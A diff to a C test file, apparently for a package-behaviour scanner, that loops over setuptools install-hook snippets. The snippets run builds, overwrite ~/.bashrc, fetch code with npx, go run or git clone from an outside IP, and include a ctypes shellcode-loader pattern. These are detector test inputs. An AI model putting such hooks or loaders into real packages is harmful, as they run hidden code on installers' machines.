@@ -174,14 +174,25 @@ static void stays_and_harms(void)
 		    "import os\nclass I(install):\n  def run(self):\n"
 		    "    os.system('id')\nsetup(cmdclass={'install': I})",
 		    MPY_BEH_INSTALL_HOOK, 6));
-	CHECK(shows("from setuptools.command.install import install\n"
-		    "import os\nclass I(install):\n  def run(self):\n"
-		    "    os.system('make && ./x')\n",
-		    MPY_BEH_INSTALL_HOOK, 5));
-	CHECK(shows("from setuptools.command.install import install\n"
-		    "import os\nclass I(install):\n  def run(self):\n"
-		    "    os.system('make CC=$(id)')\n",
-		    MPY_BEH_INSTALL_HOOK, 5));
+	static const char *const builds[] = {
+		"os.system('make && ./x')", "os.system('make CC=$(id)')",
+		"os.system('make -C /tmp/x')", "os.system('make SHELL=/x')",
+		"os.system('cp x ~/.bashrc')", "os.system('npm install x')",
+		"call(['npx', '-y', 'x'])", "call(['/tmp/.x/make'])",
+		"call(['go', 'run', 'x.invalid/x@latest'])",
+		"call(['git', 'clone', 'https://198.51.100.7/x'])",
+		"call('make', executable='/bin/sh')", "call([x, 'make'])",
+	};
+	char text[256];
+
+	for (size_t i = 0; i < sizeof(builds) / sizeof(builds[0]); i++) {
+		snprintf(text, sizeof(text),
+			 "from setuptools.command.install import install\n"
+			 "from subprocess import call; import os\n"
+			 "class I(install):\n  def run(self):\n    %s\n",
+			 builds[i]);
+		CHECK(shows(text, MPY_BEH_INSTALL_HOOK, 5));
+	}
 	CHECK(shows("import ctypes\nk = ctypes.windll.kernel32\n"
 		    "p = k.VirtualAlloc(0, n, 0x3000, 0x40)\n"
 		    "k.RtlMoveMemory(p, b, n)\nk.CreateThread(0, 0, p, 0)",
